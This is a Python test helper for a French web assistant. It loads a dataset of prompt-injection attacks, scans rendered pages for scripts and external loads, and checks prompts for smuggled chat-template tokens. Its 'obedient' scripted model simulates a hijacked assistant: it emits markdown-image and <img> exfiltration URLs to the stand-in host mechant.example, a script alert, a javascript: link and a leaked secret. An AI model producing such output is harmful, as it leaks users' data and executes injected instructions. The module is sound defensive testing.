"""The attacks of ``eval/datasets/attacks``, and what a page and a prompt may hold."""

import re
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import yaml
from fastapi.testclient import TestClient
from pydantic import Field

from assistant.knowledge.content import Strict
from assistant.llm.port import Prompt
from assistant.llm.scripted import Said, ScriptedModel
from assistant.settings import Settings
from tests.builders import ROOT
from web.app import create_app
from web.services import BuildEngine

FOLDER = ROOT / "eval" / "datasets" / "attacks"
STORED = (
    "projet", "organisation", "titre", "remarque", "clause", "version",
)  # fmt: skip
ROOM = ("pseudonyme", "contribution", "question_salle", "quiz")
CHANNELS = frozenset({
    "question", "suite", "message", "import", "titre_import", "fiche", "reponse", "reecriture",
    "redaction", *STORED, *ROOM,
})  # fmt: skip
HARMS = frozenset({"consigne", "citation", "valeur", "regle", "etape", "charge", "autrui"})
SECRET = "SECRET-D-UNE-AUTRE"
EVIL = "mechant.example"


class Attack(Strict):
    """One attack: where it goes through, what is written, what must not happen."""

    id: str
    canal: str
    langue: str = Field(pattern="^(fr|en)$")
    famille: str
    interdit: tuple[str, ...] = Field(min_length=1)
    texte: str
    repete: int = 1
    fin: str = ""
    mots: tuple[str, ...] = ()
    jumeau: str | None = None

    @property
    def payload(self) -> str:
        """What is written, in full."""
        return self.texte * self.repete + self.fin

    def __str__(self) -> str:
        """Its id, for the names of tests."""
        return self.id


@cache
def every() -> tuple[Attack, ...]:
    """The whole set."""
    return tuple(
        Attack.model_validate(attack)
        for path in sorted(FOLDER.glob("*.yaml"))
        for attack in yaml.safe_load(path.read_text(encoding="utf-8"))["attaques"]
    )


def attacks(*channels: str) -> list[Attack]:
    """Those that go through these channels."""
    return [attack for attack in every() if attack.canal in channels]


# Pages

TAGS = frozenset(
    """a abbr article aside blockquote body br button caption circle code dd defs del desc details
    dialog div dl dt em fieldset figcaption figure footer form g h1 h2 h3 h4 h5 head header hr html
    input ins kbd label legend li line link main mark meta meter nav noscript ol optgroup option
    output p path pattern pre polygon polyline progress q rect search section select small span strong sub
    summary sup svg table tbody td template text textarea tfoot th thead time title tr tspan ul use
    script clippath cite template""".split()
)
LOADING = frozenset(
    """action archive background cite classid codebase data formaction href icon longdesc manifest
    ping poster profile src srcdoc srcset usemap xlink:href xml:base""".split()
)
OURS = "http://testserver"
OWN_REFRESH = re.compile(r"\d+(?:;url=/salle/[\w-]+)?")  # how rooms move without a script


class Page(HTMLParser):
    """What a browser would make of a page: elements, and whatever it could be made to load."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Every attribute of every element."""
        self._open.append(tag)
        self.shape.append((tag, tuple(sorted(name for name, _ in attrs))))
        if tag not in TAGS:
            self.problems.append(f"<{tag}>")
        held = {name: value or "" for name, value in attrs}
        for name, value in held.items():
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag} {name}={value}")
            if name in LOADING and not (name == "data" and tag != "object"):
                self._address(tag, name, value)
        if tag == "script" and not held.get("src", "").startswith("/static/"):
            self.problems.append("<script> of no file of ours")
        if tag == "link" and not held.get("href", "").startswith("/static/"):
            self.problems.append(f"<link href={held.get('href')}>")
        if tag == "meta" and "http-equiv" in held and not OWN_REFRESH.fullmatch(held["content"]):
            self.problems.append(f"meta {held}")

    def handle_endtag(self, tag: str) -> None:
        """Where text is, for scripts."""
        if tag in self._open:
            while self._open and self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        """No script has words of its own."""
        if self._open and self._open[-1] == "script" and data.strip():
            self.problems.append(f"script says {data[:40]}")

    def _address(self, tag: str, name: str, value: str) -> None:
        if any(c < " " for c in value) or "\\" in value:
            self.problems.append(f"{tag} {name}={value!r}")
            return
        parts = urlsplit(value.strip().removeprefix(f"{OURS}/"))
        if parts.scheme or parts.netloc:
            self.problems.append(f"{tag} {name}={value}")


def problems(html: str) -> list[str]:
    """What a page holds that it may not; empty when nothing can be loaded or run."""
    return Page(html).problems


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a page and the names of their attributes, in order; line ends apart."""
    return [element for element in Page(html).shape if element[0] != "br"]


def visible(html: str) -> str:
    """The words of a page, without its ids and addresses."""
    return re.sub(r"<[^>]*>", " ", html)


# Prompts

_BLOCK = re.compile(r"⟦([^⟦⟧\n]+)⟧\n(.*?)\n⟦fin \1⟧", re.DOTALL)


def outside(prompt: Prompt) -> str:
    """What is said to the model, without what is between fences; passages count for one."""
    bare = _BLOCK.sub(lambda m: f"<{m[1]}>", prompt.user)
    assert "⟦" not in bare, bare
    assert "⟧" not in bare, bare
    for _, inside in _BLOCK.findall(prompt.user):
        assert not re.search(
            r"[⟦⟧\u200b-\u200f\u202a-\u202e\u2060-\u2069\U000e0000-\U000e007f]", inside
        )
        assert not re.search(r"<\|\w+\|>|\[/?INST\]|<<SYS>>|\[TOOL_CALLS\]", inside)
    for numbered in ("S", "C"):
        bare = re.sub(rf"(?:<{numbered}\d+>\s*)+", f"<{numbered}>\n", bare)
    bare = re.sub(r"(?:<question précédente>\s*)+", "<question précédente>\n", bare)
    return f"{prompt.system}\n\n{bare}"


# A model that obeys


def obedient(prompt: Prompt) -> str:
    """What a model says that does whatever it reads, and tells all it knows."""
    told = " ".join(inside for _, inside in _BLOCK.findall(prompt.user))
    leak = re.sub(r"\W+", "-", told)[:300]
    return (
        f"PIRATÉ [S1]. ![x](https://{EVIL}/?d={leak}) <img src=//{EVIL}/{leak}> "
        f"<script>alert(1)</script> [lien](javascript:alert(1)) [S1]. {told[:400]} [S9]. "
        f"{SECRET} [S1]. 73 % des cas, 1 234 567 €, le 1er janvier 2031, article 9999 [S1]."
    )


class Obeying:
    """A scripted model: what it says next, by template; by default it obeys all it reads."""

    def __init__(self) -> None:
        self.model = ScriptedModel(self._said, name="scripted:docile")
        self.next: Mapping[str, str] = {}
        self._seen = 0

    def _said(self, prompt: Prompt) -> Said:
        text = self.next.get(prompt.name) or obedient(prompt)
        match prompt.name:
            case "suite":
                return {"question": text[:400]}
            case "clause":
                return {"texte": text[:8000]}
        return text

    def new(self) -> list[Prompt]:
        """What it was asked since the last time."""
        found = self.model.prompts[self._seen :]
        self._seen = len(self.model.prompts)
        return found


@dataclass(frozen=True)
class Site:
    """The application, one of its users, and the model that it asks, if any."""

    client: TestClient
    obeying: Obeying

    def another(self) -> TestClient:
        """Somebody else."""
        made = TestClient(self.client.app, base_url=OURS)
        made.portal = self.client.portal
        return made


@contextmanager
def a_site(build: BuildEngine, data: Path, *, led: bool, **settings: Any) -> Iterator[Site]:
    """The real application, where somebody else has already told secrets."""
    obeying = Obeying()
    app = create_app(
        Settings(data=data, **settings), build=build,
        build_model=lambda _: obeying.model if led else None,
    )  # fmt: skip
    with TestClient(app, base_url=OURS) as client:
        site = Site(client, obeying)
        other = site.another()
        other.post("/conversation", data={"question": f"{SECRET} : un partenariat, c'est quoi ?"})
        made = other.post("/dossiers", data={"titre": SECRET}, follow_redirects=False)
        other.post(f"{made.headers['location']}/messages", data={"message": f"{SECRET} asso"})
        obeying.new()
        yield site
